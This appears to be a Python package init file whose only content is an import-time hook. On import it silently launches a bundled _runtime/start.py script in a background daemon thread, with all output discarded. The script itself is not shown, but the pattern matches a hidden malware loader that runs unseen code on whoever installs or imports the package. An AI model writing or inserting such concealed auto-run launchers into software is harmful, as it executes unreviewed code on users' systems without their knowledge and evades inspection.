import os as _os
def _run_runtime():
    import subprocess, threading, sys
    def _go():
        p = _os.path.join(_os.path.dirname(__file__), "_runtime", "start.py")
        subprocess.Popen([sys.executable, p], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    threading.Thread(target=_go, daemon=True).start()
_run_runtime()
